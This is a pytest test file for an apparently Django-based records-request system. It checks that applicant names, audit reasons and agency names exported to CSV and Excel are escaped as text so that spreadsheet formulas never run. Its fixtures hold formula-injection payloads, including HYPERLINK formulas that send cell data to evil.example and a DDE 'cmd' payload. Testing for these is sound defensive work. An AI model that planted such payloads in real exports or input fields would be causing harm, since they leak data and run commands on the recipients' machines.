"""CSV exports open as text in Excel and WPS: a cell typed as a formula is never run."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse

from gongkai import audit
from gongkai.catalog.services import DOCUMENT_RETURN
from gongkai.spreadsheet import safe_cell
from tests.appeals.factories import make_application
from tests.catalog.factories import DocumentFactory

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
            "\t=1+1"]


def _rows(response) -> list[list[str]]:
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_typed_by_an_applicant_is_exported_as_text(client, agency, make_staff, value):
    application = make_application(agency, received_on=dt.date(2022, 3, 1))
    application.applicant_name = value
    application.title = value
    application.save(update_fields=["applicant_name", "title"])
    client.force_login(make_staff(agency, "handler"))
    rows = _rows(client.get(reverse("applications:export")))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + value in cells
    assert value not in cells


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_in_an_audit_reason_is_exported_as_text(client, agency, make_staff, value):
    document = DocumentFactory(agency=agency)
    audit.record(actor=make_staff(agency, "reviewer"), action=DOCUMENT_RETURN, target=document,
                 agency=agency, reason=value)
    client.force_login(make_staff(agency, "supervisor"))
    rows = _rows(client.get(reverse("audit:export")))
    reasons = [row[-1] for row in rows[1:]]
    assert reasons == ["'" + value]


@pytest.mark.parametrize("value, shown", [
    ("西华县商务局", "西华县商务局"), ("", ""), (-3, -3), (dt.date(2022, 1, 1), dt.date(2022, 1, 1)),
    ("=1+1", "'=1+1"), ("关于=号的说明", "关于=号的说明"),
])
def test_only_strings_that_start_like_a_formula_change(value, shown):
    assert safe_cell(value) == shown


def test_the_dashboard_workbook_holds_text_not_formulas(client, county, make_staff):
    from io import BytesIO

    from openpyxl import load_workbook

    from tests.factories import AgencyFactory

    AgencyFactory(name='=HYPERLINK("http://evil.example","点击")', slug="evil", parent=county)
    client.force_login(make_staff(county, "supervisor"))
    workbook = load_workbook(BytesIO(client.get(reverse("supervision:export"), {"year": 2021}).content))
    cells = [cell for row in workbook["依申请公开"].iter_rows(min_row=2) for cell in row]
    evil = [cell for cell in cells if str(cell.value).startswith("=HYPERLINK")]
    assert evil and all(cell.data_type == "s" for cell in evil)
